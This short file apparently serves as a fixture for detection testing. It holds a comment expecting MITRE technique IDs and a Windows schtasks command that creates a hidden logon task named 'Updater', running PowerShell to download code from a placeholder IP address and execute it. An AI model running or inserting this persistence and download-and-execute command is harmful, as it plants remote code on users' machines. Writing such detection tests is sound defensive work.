# expect: T1053.005 T1059.001
schtasks /create /tn Updater /sc onlogon /tr @'
powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"
'@
